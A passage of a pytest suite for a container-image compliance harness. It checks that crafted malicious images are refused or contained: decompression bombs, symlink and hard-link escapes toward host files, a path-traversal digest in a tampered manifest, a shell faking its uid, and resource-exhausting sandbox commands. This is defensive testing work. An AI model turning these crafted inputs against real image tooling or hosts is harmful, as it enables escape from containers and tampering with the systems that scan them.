    write_layout(tmp_path / "bomb", [*layers, _bomb(200_000_000)], config)
    facts = load(parse_reference(f"oci:{tmp_path / 'bomb'}"), tmp_path / "w", Limits(bytes=50_000_000))
    written = sum(p.lstat().st_size for p in (tmp_path / "w" / "rootfs").rglob("*") if not p.is_symlink())
    assert written < 5_000_000
    assert facts.stopped == "over 50 MB uncompressed by layer 3 of 3, stopped"
    found = verdicts(facts)
    assert found["IMG-03"].status == "fail" and "over 50 MB uncompressed by layer 3 of 3, stopped" in found["IMG-03"].message
    assert found["IMG-04"].status == "skip" and found["IMG-06"].status == "skip"
    assert facts.not_run.startswith("the image was not fully unpacked")


def test_the_unpack_limit_is_twice_the_plans_budget_and_at_most_4_gib():
    assert unpack_limits(400).bytes == 800_000_000
    assert unpack_limits(100_000).bytes == 4 << 30


def _sparse_layer() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("holes")
        info.type = tarfile.GNUTYPE_SPARSE
        tar.addfile(info)
    return out.getvalue()


@pytest.mark.parametrize("case, says", [
    ("sparse", "holds a sparse file, holes, which is refused"),
    ("entries", "over 500 entries"),
    ("long name", "holds a name of 300 bytes, over the limit"),
    ("time", "applying the layers took over -1 s, stopped at layer 1"),
])
def test_what_no_image_needs_is_refused_while_streaming(tmp_path, case, says):
    layers, config = compliant()
    extra = {"sparse": _sparse_layer(),
             "entries": LayerSpec(files={f"/many/{i}": "" for i in range(500)}),
             "long name": LayerSpec(files={"/" + "n" * 300: ""}),
             "time": LayerSpec()}[case]
    image = write_layout(tmp_path / "layout", [*layers, extra], config)
    with pytest.raises(UnpackError, match=says):
        unpack(image, tmp_path / "root", Limits(entries=500, seconds=-1 if case == "time" else 600))


def test_a_symlinked_directory_cannot_hide_a_file_from_the_checks(tmp_path):
    """node_modules/x made a symlink to /app, then a .env written through it: judged where it lands, /app/.env,
    not as a file of node_modules (which IMG-04 leaves to the content check)."""
    link = LayerSpec(symlinks={"/app/node_modules/x": "/app"}, created_by="RUN ln -s /app node_modules/x")
    through = LayerSpec(files={"/app/node_modules/x/.env": "DATABASE_PASSWORD=hunter2\n"}, parents=False,
                        created_by="COPY . .")
    facts = facts_of(build(tmp_path, lambda layers, config: layers.extend([link, through])), tmp_path)
    verdict = judges.no_baked_secrets(facts, EXPECT["IMG-04"])
    assert verdict.status == "fail" and "credential file /app/.env in layer 4" in verdict.message
    assert "/app/.env" in facts.layers[3].files and "/app/node_modules/x/.env" not in facts.layers[3].files


def test_a_hard_link_to_a_symlink_links_the_symlink_never_its_target(tmp_path, victim):
    root = _unpack_crafted(tmp_path, LayerSpec(symlinks={"/l": str(victim / "sub" / "f")}),
                           LayerSpec(hardlinks={"/h": "/l"}))
    assert (root / "h").is_symlink() and os.readlink(root / "h") == str(victim / "sub" / "f")
    assert (victim / "sub" / "f").stat().st_nlink == 1 and (victim / "sub" / "f").read_text() == "host file"


def _rewrite_manifest(layout: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Change the layout's manifest and store it again under its new digest (as a tamperer would)."""
    index = json.loads((layout / "index.json").read_text())
    descriptor = index["manifests"][0]
    manifest_path = layout / "blobs" / "sha256" / descriptor["digest"].split(":")[1]
    manifest = json.loads(manifest_path.read_text())
    change(manifest)
    raw = json.dumps(manifest).encode()
    digest = hashlib.sha256(raw).hexdigest()
    (layout / "blobs" / "sha256" / digest).write_bytes(raw)
    descriptor.update(digest=f"sha256:{digest}", size=len(raw))
    (layout / "index.json").write_text(json.dumps(index))


def _tamper(case: str, layout: Path) -> None:
    image = read_layout(layout)
    if case == "digest as a path":
        (layout.parent / "outside.tar").write_bytes(b"not for reading")
        _rewrite_manifest(layout, lambda m: m["layers"][1].update(digest="sha256:../../../outside.tar"))
    elif case == "layer changed":
        image.layers[1].path.write_bytes(gzip.compress(b"\0" * 1024, mtime=0))
    elif case == "config changed":
        config = layout / "blobs" / "sha256" / image.manifest["config"]["digest"].split(":")[1]
        config.write_text(config.read_text().replace('"User": "node"', '"User": "nobody"'))
    elif case == "diff_id of another layer":
        layers, config = compliant()
        other = write_layout(layout.parent / "other", [layers[0], LayerSpec(files={"/x": "y"})], config)
        _rewrite_manifest(layout, lambda m: m.update(config=other.manifest["config"]))
        for blob in (layout.parent / "other" / "blobs" / "sha256").iterdir():
            shutil.copy(blob, layout / "blobs" / "sha256" / blob.name)


@pytest.mark.parametrize("case, says", [
    ("digest as a path", "'sha256:../../../outside.tar' is not a sha256 digest"),
    ("layer changed", "layer 2's blob does not match its digest"),
    ("config changed", "does not match its digest: it was changed"),
    ("diff_id of another layer", "layer 2's content does not match the config's diff_id"),
])
def test_a_tampered_layout_is_bad_input(tmp_path, case, says):
    layout = build(tmp_path)
    _tamper(case, layout)
    with pytest.raises(ImageError, match=re.escape(says)):
        load(parse_reference(f"oci:{layout}"), tmp_path / "w", LIMITS)
    assert not (tmp_path / "w" / "rootfs").exists() or not any((tmp_path / "w" / "rootfs").iterdir())


def test_a_tampered_image_exits_4_with_one_line(tmp_path, reports):
    layout = build(tmp_path)
    _tamper("layer changed", layout)
    run = run_suite("--image", f"oci:{layout}", reports=reports, suite="compliance/test_image.py")
    assert run.returncode == 4 and len(run.error_lines) == 1, run.stderr[-2000:]
    assert "does not match its digest" in run.error_lines[0] and "Traceback" not in run.stderr + run.stdout


@pytest.mark.parametrize("uri", ["oci:/etc", "docker-archive:/etc/passwd", "dir:/root", "/var/lib/image"])
def test_a_task_definition_image_is_only_ever_a_registry_reference(uri):
    session = ImageSession(lambda line: None, EXPECT["IMG-03"]["max_size_mb"])
    try:
        with pytest.raises(ImageError, match="is not a registry reference; refused"):
            session.deployed(uri, Target("aws", "us-east-1"))
    finally:
        session.close()


def test_a_harness_killed_with_sigkill_takes_the_sandbox_with_it(tmp_path):
    """bwrap's --die-with-parent: the image's processes end with the process that ran them, however it ends."""
    layers, config = compliant()
    image = write_layout(tmp_path / "layout", [*layers, LayerSpec(files={"/bin/hang": "#!/bin/busybox sh\n"
                                                                        "exec /bin/busybox sleep 8643\n"},
                                                                 modes={"/bin/hang": 0o755})], config)
    root = unpack(image, tmp_path / "root", LIMITS).root
    sandbox.hand_over(root)
    runner = subprocess.Popen([sys.executable, "-c", "import sys; from pathlib import Path; "
                               "from harness.image import sandbox; sandbox.run(Path(sys.argv[1]), ['/bin/hang'], 600)",
                               str(root)], cwd=ROOT)
    try:
        wait_for(lambda: _processes_with("sleep 8643"), 15, lambda: "the sandboxed command did not start")
    finally:
        runner.send_signal(signal.SIGKILL)
        runner.wait(timeout=10)
    started = time.monotonic()
    wait_for(lambda: not _processes_with("sleep 8643"), 5, lambda: "the image's process outlived the harness")
    assert time.monotonic() - started < 5


def test_a_symlinked_working_directory_hides_nothing(tmp_path):
    """WorkingDir /app a symlink into a node_modules: its .env, its package.json and an installed
    devDependency are judged where the container finds them."""
    from harness.local.image import package_json

    def move_app(layers: list[LayerSpec], config: dict[str, Any]) -> None:
        layers[0] = replace(layers[0], dirs=tuple(d for d in layers[0].dirs if d != "/app"))
        layers[1:] = [LayerSpec(symlinks={"/app": "/srv/node_modules/app"}, dirs=("/srv/node_modules/app",)),
                      LayerSpec(files={"/app/package.json": json.dumps(package_json("1.0.0")),
                                       "/app/.env": "DATABASE_PASSWORD=hunter2\n",
                                       "/app/node_modules/jest/package.json": "{}",
                                       "/app/node_modules/express/package.json": "{}"}, parents=False)]

    facts = facts_of(build(tmp_path, move_app), tmp_path)
    assert (facts.app, facts.modules) == ("/srv/node_modules/app", "/srv/node_modules/app/node_modules")
    found = verdicts(facts)
    assert found["IMG-04"].status == "fail" and "/srv/node_modules/app/.env" in found["IMG-04"].message
    assert found["IMG-06"].status == "fail" and "devDependency jest" in found["IMG-06"].message


def test_a_large_npm_install_record_is_read_whole(tmp_path):
    """A real app's node_modules/.package-lock.json is often over a megabyte: read on the host, not through a
    command's capped output, its dev mark is still found."""
    packages = {"node_modules/express": {}, "node_modules/eslint": {"dev": True}}
    packages.update({f"node_modules/pad{i}": {"version": "1.0.0", "resolved": "x" * 200} for i in range(6000)})
    record = json.dumps({"packages": packages})
    assert len(record) > 1 << 20
    facts = facts_of(build(tmp_path, _with_layer(LayerSpec(files={
        "/app/node_modules/eslint/package.json": "{}", "/app/node_modules/.package-lock.json": record}))), tmp_path)
    verdict = judges.production_dependencies(facts, EXPECT["IMG-06"])
    assert verdict.status == "fail" and "devDependency eslint" in verdict.message


def test_an_image_whose_id_lies_about_the_uid_fails(tmp_path):
    """/etc/passwd gives node uid 0 and the image's shell answers 1000 to `id -u`: the runtime takes the uid
    from /etc/passwd, read on the host, so IMG-01 fails naming both."""
    liar = _shell('case "$2" in *"id -u"*) echo 1000; exit 0;; esac\nexec /bin/busybox sh "$@"\n')
    passwd = _passwd("root:x:0:0::/root:/bin/sh\nnode:x:0:0::/home/node:/bin/sh\n")
    facts = facts_of(build(tmp_path, lambda layers, config: (passwd(layers, config), liar(layers, config))),
                     tmp_path)
    verdict = judges.non_root_user(facts, EXPECT["IMG-01"])
    assert verdict.status == "fail" and "the image's `id` says uid 1000, its /etc/passwd says 0" in verdict.message


def test_the_sandbox_bounds_what_a_command_may_take(tmp_path):
    """/tmp holds 64 MiB, /dev holds only its three devices and is read-only, a file stops at 64 MiB, and a
    fork loop stops at the process limit: none of them reaches the runner's memory or process table."""
    layers, config = compliant()
    root = unpack(write_layout(tmp_path / "layout", layers, config), tmp_path / "root", LIMITS).root
    sandbox.hand_over(root)
    rc, out, err = sandbox.run(root, ["/bin/sh", "-c",
                                      "dd if=/dev/zero of=/tmp/fill bs=1048576 count=200 2>/dev/null; echo tmp=$?; "
                                      "echo x > /dev/new 2>/dev/null; echo dev=$?; ls /dev; "
                                      "ulimit -u; ulimit -f"])
    lines = out.decode().split()
    assert rc == 0 and lines[0] != "tmp=0" and lines[1] == "dev=1", (out, err)  # dd stopped (SIGXFSZ or full)
    assert sorted(lines[2:5]) == ["null", "urandom", "zero"] and lines[5:] == ["1024", str((64 << 20) // 512)]


@pytest.mark.parametrize("config", [{"rootfs": "x"}, {"rootfs": {"diff_ids": "x"}}, {"config": ["x"], "rootfs": {}}])
def test_a_malformed_config_is_one_line_not_a_traceback(tmp_path, config):
    layers, good = compliant()
    image = write_layout(tmp_path / "layout", layers, good)
    with pytest.raises(UnpackError, match="diff_ids"):
        unpack(replace(image, config=config), tmp_path / "root", LIMITS)
